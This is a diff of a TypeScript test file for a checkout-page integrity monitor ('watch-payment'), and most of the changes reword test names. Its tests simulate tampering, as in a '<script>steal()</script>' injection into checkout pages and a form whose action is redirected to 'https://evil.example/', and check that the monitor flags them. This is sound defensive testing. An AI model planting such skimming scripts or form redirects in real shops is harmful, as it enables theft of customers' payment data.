@@ -52,27 +52,23 @@ function foundWith(change: Change): string[] {
 }
 
 describe.sequential("npm run watch-payment", () => {
-  it(
-    "ends with 0 for a shop as it was built, and sees every page up to the review",
-    { timeout: patience },
-    async () => {
-      const seen = new Set<string>();
-      const keep = (answer: Answer) => {
-        seen.add(answer.path);
-        if (answer.path === "/checkout/payment" && answer.body.includes("</html>"))
-          payment = { ...answer, headers: new Headers(answer.headers) };
-        return undefined;
-      };
-      expect(await runWith(keep)).toEqual({ status: 0, differences: [] });
-      const steps = ["address", "delivery", "payment", "review"].map((step) => `/checkout/${step}`);
-      for (const path of ["/cart", ...steps, "/track"]) expect(seen).toContain(path);
-      expect([...seen].filter((path) => /confirmation|outcome/.test(path))).toEqual([]);
-      expect([...seen].filter((path) => path.endsWith(".js")).length).toBeGreaterThan(5);
-      expect(foundWith(() => undefined)).toEqual([]);
-    },
-  );
+  it("exits with 0 for an unmodified shop and visits every page up to the review", { timeout: patience }, async () => {
+    const seen = new Set<string>();
+    const keep = (answer: Answer) => {
+      seen.add(answer.path);
+      if (answer.path === "/checkout/payment" && answer.body.includes("</html>"))
+        payment = { ...answer, headers: new Headers(answer.headers) };
+      return undefined;
+    };
+    expect(await runWith(keep)).toEqual({ status: 0, differences: [] });
+    const steps = ["address", "delivery", "payment", "review"].map((step) => `/checkout/${step}`);
+    for (const path of ["/cart", ...steps, "/track"]) expect(seen).toContain(path);
+    expect([...seen].filter((path) => /confirmation|outcome/.test(path))).toEqual([]);
+    expect([...seen].filter((path) => path.endsWith(".js")).length).toBeGreaterThan(5);
+    expect(foundWith(() => undefined)).toEqual([]);
+  });
 
-  it("ends with 1 when a header is gone, a script is new, a file was changed", { timeout: patience }, async () => {
+  it("exits with 1 if a header is missing, a script is new or a file was changed", { timeout: patience }, async () => {
     const changed: Change = ({ path, headers, body }) => {
       if (path === "/checkout/delivery") headers.delete("x-frame-options");
       if (path === "/checkout/review") return body.replace("</body>", "<script>steal()</script></body>");
@@ -88,7 +84,7 @@ describe.sequential("npm run watch-payment", () => {
     ]);
   });
 
-  it("types nothing into a form that leads away, and says where it leads", { timeout: patience }, async () => {
+  it("fills in no form that leads to another site, and reports where it leads", { timeout: patience }, async () => {
     const away = html((text) => text.replace('<form method="post" id="address"', '$& action="https://evil.example/"'));
     const { status, differences } = await runWith((answer) =>
       answer.path === "/checkout/address" ? away(answer) : undefined,
@@ -98,7 +94,7 @@ describe.sequential("npm run watch-payment", () => {
   });
 
   it.each(Object.keys(readInventory().headers).filter((name) => name !== "strict-transport-security"))(
-    "misses the header %s",
+    "reports the missing header %s",
     (name) =>
       expect(foundWith(({ headers }) => void headers.delete(name))).toEqual([
         expect.stringContaining(`header ${name}: missing`),
@@ -158,7 +154,7 @@ describe.sequential("npm run watch-payment", () => {
     ],
   ])("finds %s", (_name, change, difference) => expect(foundWith(change).join("\n")).toMatch(difference));
 
-  it("compares the pages of the payment provider, where some are listed", () => {
+  it("compares the payment provider's pages if any are listed", () => {
     const headers = new Headers({ "cache-control": "no-store" });
     const visit = { url: new URL("https://pay.example"), status: 200, headers, html: "<script>steal()</script>" };
     const wanted = {
